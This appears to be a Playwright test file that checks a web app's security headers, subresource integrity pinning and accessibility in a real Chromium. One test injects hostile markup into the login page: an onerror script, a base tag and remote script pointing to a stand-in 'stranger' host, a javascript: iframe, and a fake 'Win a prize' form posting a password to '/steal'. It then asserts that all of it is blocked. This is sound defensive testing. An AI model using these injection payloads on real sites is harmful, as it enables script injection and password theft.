// The response headers at work in a real Chromium: what they let through on our pages, and what they stop.
import assert from 'node:assert/strict'
import { readFileSync } from 'node:fs'
import { test } from 'node:test'
import { fileURLToPath } from 'node:url'
import type { AxeResults } from 'axe-core'
import type { Page, Route } from 'playwright-core'
import { assets } from '../../src/html/assets.ts'
import { becomeMember, complaintsOf, isFormSent, openBrowser, openSite, openStranger } from './site.ts'

const AXE = readFileSync(fileURLToPath(import.meta.resolve('axe-core/axe.min.js')), 'utf8')
const SCREENS = [
  { colorScheme: 'light', viewport: { width: 1280, height: 900 } },
  { colorScheme: 'dark', viewport: { width: 375, height: 812 } },
] as const

const { newWindow } = await openBrowser()
const site = await openSite('http')
const secure = await openSite('https')
const stranger = await openStranger(() => '<!doctype html><title>stranger</title>')

/** Leads through every page that there is; `look` is called at each. */
async function everyPage(page: Page, place: typeof site, username: string, look: () => Promise<void>) {
  const visit = async (path: string, status = 200) => {
    assert.equal((await page.goto(place.origin + path))?.status(), status, path)
    await look()
  }
  const post = async (path: string, status: number, change = '') => {
    await page.goto(place.origin + path)
    // Past the browser's own checks of the fields, which stop nobody who means it.
    const answer = page.waitForResponse(isFormSent)
    const loaded = page.waitForEvent('load')
    await page.evaluate(`${change}; document.querySelector('main form').submit()`)
    assert.equal((await answer).status(), status, path)
    await loaded
    await look()
  }
  await visit('/')
  await visit('/register')
  await post('/register', 422)
  await visit('/login')
  await post('/login', 401)
  await post('/login', 400, `document.querySelector('[name="csrf_token"]').remove()`)
  await visit('/no-such-page', 404)
  await visit('/%ff', 400)
  await visit('/logout', 405)
  await becomeMember(page, place, username)
  await look()
  await visit('/')
  await visit('/no-such-page', 404)
  await visit('/dev/outbox')
}

for (const place of [site, secure]) {
  const { protocol } = new URL(place.origin)
  test(`V3.4.3 ${protocol} no page makes the browser complain, of the policy or of anything`, async () => {
    const page = await newWindow()
    const complaints = complaintsOf(page.context())
    await everyPage(page, place, 'quiet', async () => {
      await page.evaluate('new Promise(requestAnimationFrame)')
    })
    assert.deepEqual(complaints, [])
    await page.context().close()
  })
}

for (const screen of SCREENS) {
  test(`axe finds nothing serious on the running pages, ${screen.viewport.width} wide, ${screen.colorScheme}`, async () => {
    const page = await newWindow({ ...screen, reducedMotion: 'reduce' })
    await everyPage(page, site, `axe-${screen.colorScheme}`, async () => {
      // The plain answer to an address that can't be read is text, not a page.
      if ((await page.evaluate('document.contentType')) !== 'text/html') return
      await page.evaluate(AXE)
      const { violations } = await page.evaluate<AxeResults>('axe.run()')
      assert.deepEqual(
        violations.map(({ id, nodes }) => `${page.url()}: ${id}: ${nodes.map((node) => node.html)}`),
        [],
      )
    })
    await page.context().close()
  })
}

/** The browser complains in its own time, so a complaint that must come is waited for. */
function complaintOf(page: Page, words: string) {
  return page.waitForEvent('console', (message) => message.text().includes(words))
}

test('V3.2.2 text can’t be turned into elements: innerHTML is blocked', async () => {
  const page = await newWindow()
  // Shows as well that a page of ours that did such a thing would be heard.
  const complaint = complaintOf(page, 'TrustedHTML')
  await page.goto(`${site.origin}/login`)
  await assert.rejects(
    page.evaluate(`document.body.innerHTML = '<img src=x onerror=alert(1)>'`),
    /TrustedHTML/,
  )
  await assert.rejects(
    page.evaluate(`trustedTypes.createPolicy('mine', { createHTML: (s) => s })`),
    /disallowed|TypeError/,
  )
  assert.equal(await page.locator('h1').textContent(), 'Sign in')
  await complaint
  await page.context().close()
})

/** Serves the site's own answer with other bytes and the same headers: what an injection would look like. */
function altered(change: (body: string) => string) {
  return async (route: Route) => {
    const response = await route.fetch()
    await route.fulfill({ response, body: change(await response.text()) })
  }
}

test('defect 39: an injected base or a form to elsewhere does nothing, injected scripts do not run', async () => {
  const page = await newWindow()
  await page.route(
    `${site.origin}/login`,
    altered((body) =>
      body.replace(
        '</head>',
        `<base href="${stranger.origin}/"></head>
        <form action="${stranger.origin}/steal" method="post"><input name="password" value="hunter2">
        <button>Win a prize</button></form>
        <script>document.title = 'ran'</script><img src="x" onerror="document.title = 'ran'">
        <script src="${stranger.origin}/ran.js"></script><iframe src="javascript:top.document.title='ran'"></iframe>`,
      ),
    ),
  )
  const complaints = Promise.all(
    ['base-uri', 'script-src', 'form-action'].map((directive) => complaintOf(page, directive)),
  )
  await page.goto(`${site.origin}/login`)
  assert.equal(await page.evaluate('document.baseURI'), `${site.origin}/login`)
  await page.getByRole('button', { name: 'Win a prize' }).click({ noWaitAfter: true })
  await complaints
  await page.waitForLoadState('networkidle')
  assert.equal(page.url(), `${site.origin}/login`)
  assert.notEqual(await page.title(), 'ran')
  assert.deepEqual(stranger.arrivals, [])
  await page.context().close()
})

test('V3.6.1 a script or a style sheet with other bytes is refused, and the page works without it', async () => {
  for (const asset of [assets().script, assets().css]) {
    const page = await newWindow()
    await page.route(
      site.origin + asset.path,
      altered((body) => `${body}\n/* one comment more */`),
    )
    const complaint = complaintOf(page, 'integrity')
    await page.goto(`${site.origin}/login`)
    await complaint
    const scripts = await page.getByRole('button', { name: 'Show password' }).count()
    const sheets = await page.evaluate('document.styleSheets.length')
    assert.deepEqual([scripts, sheets], asset === assets().script ? [0, 1] : [1, 0])
    await page.getByLabel('Username or e-mail address').fill('still here')
    await page.context().close()
  }
})

test('V3.6.1 a script that the page does not pin is refused, even one of our own', async () => {
  const page = await newWindow()
  await page.route(
    `${site.origin}/login`,
    altered((body) => body.replace(` integrity="${assets().script.integrity}"`, '')),
  )
  await page.goto(`${site.origin}/login`)
  assert.equal(await page.getByRole('button', { name: 'Show password' }).count(), 0)
  await page.context().close()
})
